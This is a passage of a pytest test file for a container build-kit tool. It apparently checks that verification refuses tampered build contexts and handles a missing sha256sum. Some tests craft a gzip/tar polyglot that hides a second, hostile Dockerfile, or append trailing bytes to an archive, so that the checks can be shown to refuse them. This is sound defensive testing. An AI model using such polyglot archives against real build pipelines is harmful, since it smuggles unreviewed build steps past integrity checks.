        folder_header.type, folder_header.mode = tarfile.DIRTYPE, 0o755
        named = folder_header.tobuf(tarfile.USTAR_FORMAT, "latin-1", "surrogateescape")
        return named + b"".join(header(info) + padded(data) for info, data in entries) + bytes(1024)

    extra = len(outer(0)) - 12
    compress = zlib.compressobj(9, zlib.DEFLATED, -15)
    return (outer(extra) + compress.compress(inner) + compress.flush()
            + struct.pack("<II", zlib.crc32(inner), len(inner)))


@pytest.mark.parametrize("shell", SHELLS)
def test_a_context_that_is_also_a_gzip_stream_of_another_dockerfile_is_refused(busybox_product, tmp_path, shell):
    # found by review: a tar whose first name is a gzip header, its extra field covering the kit's whole context; a
    # deflate stream of another context after the end blocks. Both checks read the tar (and the kit's Dockerfile in
    # it) and passed it; the engine decompresses a context that begins as gzip, and would have built EVIL
    import gzip

    kit, _ = make_kit(busybox_product, tmp_path / "out")
    folder = unpack(kit, tmp_path / "unpacked")
    polyglot = gzip_polyglot(folder)
    with tarfile.open(fileobj=io.BytesIO(gzip.decompress(polyglot))) as tar:  # what a decompressing reader builds
        assert tar.extractfile("Dockerfile").read() == EVIL
    (folder / "context.tar").write_bytes(polyglot)
    refused_by_both(folder, shell, "it begins as a compressed stream")


@pytest.mark.parametrize("shell", SHELLS)
@pytest.mark.parametrize("after", [b"x", bytes(10240) + b"\0"], ids=["a byte", "zeros past the record"])
def test_bytes_after_a_context_s_end_blocks_are_refused(busybox_product, tmp_path, shell, after):
    # found by review: nothing after the end blocks was read, by either check: a stream another reader takes
    kit, _ = make_kit(busybox_product, tmp_path / "out")
    folder = unpack(kit, tmp_path / "unpacked")
    (folder / "context.tar").write_bytes((folder / "context.tar").read_bytes() + after)
    refused_by_both(folder, shell, "bytes after its end-of-archive blocks")


def test_the_kit_s_tool_is_read_as_the_draft_begins_not_when_it_is_written(tmp_path, monkeypatch):
    # found by review: the tool's files were named as the draft began (before the build) and read at its end, twice
    # (hashed, then written): a checkout changed during a long build put other sources in the kit than the ones
    # that made the image, or files its ledger did not describe
    from unibake import kit as kit_module

    package = tmp_path / "checkout" / "unibake"
    shutil.copytree(kit_module.PACKAGE, package, ignore=shutil.ignore_patterns("__pycache__"))
    monkeypatch.setattr(kit_module, "PACKAGE", package)
    tool = kit_module._tool_files()
    before = (package / "cli.py").read_bytes()
    (package / "cli.py").write_bytes(before + b"# changed during the build\n")
    assert tool["tool/unibake/cli.py"][0] == before


def test_verify_sh_on_a_machine_without_sha256sum_says_so_with_exit_2(busybox_product, tmp_path):
    # found by review: sha256sum missing (macOS) read as "files of the kit differ from kit.sha256", exit 3: a check
    # that failed, pointing at the kit, for a tool this machine lacks
    kit, _ = make_kit(busybox_product, tmp_path / "out")
    folder = unpack(kit, tmp_path / "unpacked")
    tools = tmp_path / "bin"
    tools.mkdir()
    for tool in ("od", "tar", "find", "sort", "comm", "uniq", "cut", "sed", "grep", "awk", "tr", "mktemp", "dd",
                 "head", "wc", "paste", "readlink", "cat", "iconv", "rm"):
        found = shutil.which(tool)
        if found:
            (tools / tool).symlink_to(found)
    shown = subprocess.run(["/bin/sh", "./verify.sh"], cwd=folder, capture_output=True, text=True, timeout=60,
                           env={"PATH": str(tools)})
    assert (shown.returncode, shown.stderr) == (2, "error: verify.sh needs sha256sum, which this machine lacks "
                                                   "(coreutils, findutils, tar)\n"), (shown.stdout, shown.stderr)
    assert verify_sh(folder, "sh").returncode == 0  # with it, the kit verifies
